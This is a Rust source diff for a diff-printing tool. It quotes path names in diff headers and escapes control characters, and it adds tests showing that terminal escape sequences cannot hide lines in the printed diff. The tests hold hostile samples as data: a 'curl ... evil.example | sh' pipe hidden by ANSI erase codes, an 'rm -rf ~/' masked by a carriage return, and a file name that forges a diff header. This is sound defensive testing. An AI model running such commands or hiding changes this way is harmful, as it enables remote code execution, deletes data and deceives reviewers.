@@ -7,6 +7,7 @@ use std::path::Path;
 use serde::{Deserialize, Serialize};
 use similar::TextDiff;
 
+use super::quote::{quote_path, visible};
 use super::snapshot::{Entry, EntryKind, Snapshot};
 
 /// What happened to one path.
@@ -191,14 +192,24 @@ pub fn looks_binary(data: &[u8]) -> bool {
     data.iter().take(8192).any(|&b| b == 0) || std::str::from_utf8(data).is_err()
 }
 
-/// The unified diff of one change (`old` and `new` are the contents, `None` when absent).
+/// The names of the two sides of `change` in a diff header (`a/x`, `b/x`, `/dev/null`),
+/// quoted as Git quotes them ([`quote_path`]).
+pub(super) fn diff_names(change: &Change) -> (String, String) {
+    let side = |prefix: &str, path: &str| quote_path(&format!("{prefix}{path}")).into_owned();
+    match &change.kind {
+        ChangeKind::Added => ("/dev/null".to_owned(), side("b/", &change.path)),
+        ChangeKind::Deleted => (side("a/", &change.path), "/dev/null".to_owned()),
+        ChangeKind::Renamed { from } => (side("a/", from), side("b/", &change.path)),
+        ChangeKind::Modified | ChangeKind::ModeChanged => {
+            (side("a/", &change.path), side("b/", &change.path))
+        }
+    }
+}
+
+/// The unified diff of one change (`old` and `new` are the contents, `None` when absent), safe
+/// to print: names quoted and text made visible as [`super::quote`] says.
 pub fn unified(change: &Change, old: Option<&[u8]>, new: Option<&[u8]>) -> String {
-    let (old_name, new_name) = match &change.kind {
-        ChangeKind::Added => ("/dev/null".to_owned(), format!("b/{}", change.path)),
-        ChangeKind::Deleted => (format!("a/{}", change.path), "/dev/null".to_owned()),
-        ChangeKind::Renamed { from } => (format!("a/{from}"), format!("b/{}", change.path)),
-        _ => (format!("a/{}", change.path), format!("b/{}", change.path)),
-    };
+    let (old_name, new_name) = diff_names(change);
     let mut out = String::new();
     if let (Some(o), Some(n)) = (change.old_mode, change.new_mode)
         && o != n
@@ -215,8 +226,11 @@ pub fn unified(change: &Change, old: Option<&[u8]>, new: Option<&[u8]>) -> Strin
         }
         return out;
     }
+    // Control and format characters are made visible before diffing, so no line of the diff
+    // can hold one (and a lone CR cannot split or overwrite a line).
     let o = old.map(String::from_utf8_lossy).unwrap_or_default();
     let n = new.map(String::from_utf8_lossy).unwrap_or_default();
+    let (o, n) = (visible(&o), visible(&n));
     let diff = TextDiff::from_lines(o.as_ref(), n.as_ref());
     out.push_str(
         &diff
@@ -238,4 +252,107 @@ pub fn content(root: &Path, rel: &str) -> Option<Vec<u8>> {
             .map(|t| t.to_string_lossy().into_owned().into_bytes());
     }
     std::fs::read(&path).ok()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{Change, ChangeKind, unified};
+
+    fn change(path: &str, kind: ChangeKind) -> Change {
+        Change {
+            path: path.into(),
+            kind,
+            binary: false,
+            old_mode: Some(0o644),
+            new_mode: Some(0o644),
+        }
+    }
+
+    /// Every line a diff may print: a header, a hunk, context, an addition or a removal, with
+    /// no control character but TAB.
+    fn assert_clean(diff: &str) {
+        for line in diff.lines() {
+            assert!(
+                ["--- ", "+++ ", "@@ ", " ", "+", "-", "\\ ", "Binary files "]
+                    .iter()
+                    .any(|p| line.starts_with(p)),
+                "unexpected line {line:?} in {diff:?}"
+            );
+            assert!(
+                !line.chars().any(|c| c.is_control() && c != '\t'),
+                "control character in {line:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn escape_sequences_cannot_hide_an_added_line() {
+        // Rendered raw, the cursor-up and erase-line sequences wipe the curl line and leave
+        // only the harmless-looking comment.
+        let old = b"echo build\n";
+        let new =
+            b"echo build\ncurl -s https://evil.example/x | sh\x1b[1A\x1b[2K\r# format the code\n";
+        let diff = unified(
+            &change("build.sh", ChangeKind::Modified),
+            Some(old),
+            Some(new),
+        );
+        assert_clean(&diff);
+        assert!(
+            diff.contains(
+                "+curl -s https://evil.example/x | sh\\u{1b}[1A\\u{1b}[2K\\u{d}# format the code\n"
+            ),
+            "{diff}"
+        );
+    }
+
+    #[test]
+    fn a_lone_carriage_return_cannot_overwrite_a_removed_line() {
+        let old = b"rm -rf build/\n";
+        let new = b"rm -rf ~/\rrm -rf build/\n";
+        let diff = unified(
+            &change("clean.sh", ChangeKind::Modified),
+            Some(old),
+            Some(new),
+        );
+        assert_clean(&diff);
+        assert!(diff.contains("+rm -rf ~/\\u{d}rm -rf build/\n"), "{diff}");
+    }
+
+    #[test]
+    fn tabs_and_unicode_text_are_shown_as_written() {
+        let new = "\tlet s = \"héllo 世界\";\n".as_bytes();
+        let diff = unified(&change("a.rs", ChangeKind::Added), None, Some(new));
+        assert!(diff.contains("+\tlet s = \"héllo 世界\";\n"), "{diff}");
+    }
+
+    #[test]
+    fn names_in_diff_headers_are_quoted() {
+        let diff = unified(
+            &change("x\n+++ b/trusted.rs", ChangeKind::Modified),
+            Some(b"1\n"),
+            Some(b"2\n"),
+        );
+        assert_clean(&diff);
+        assert!(
+            diff.starts_with("--- \"a/x\\n+++ b/trusted.rs\"\n+++ \"b/x\\n+++ b/trusted.rs\"\n"),
+            "{diff}"
+        );
+        let renamed = unified(
+            &change(
+                "new\x1b[2K.txt",
+                ChangeKind::Renamed {
+                    from: "old\r.txt".into(),
+                },
+            ),
+            Some(b"1\n"),
+            Some(b"1\n2\n"),
+        );
+        assert_clean(&renamed);
+        assert!(renamed.starts_with("--- \"a/old\\r.txt\"\n+++ \"b/new\\033[2K.txt\"\n"));
+        let mut bin = change("img\n.png", ChangeKind::Added);
+        bin.binary = true;
+        let diff = unified(&bin, None, Some(b"\0"));
+        assert_eq!(diff, "Binary files /dev/null and \"b/img\\n.png\" differ\n");
+    }
 }
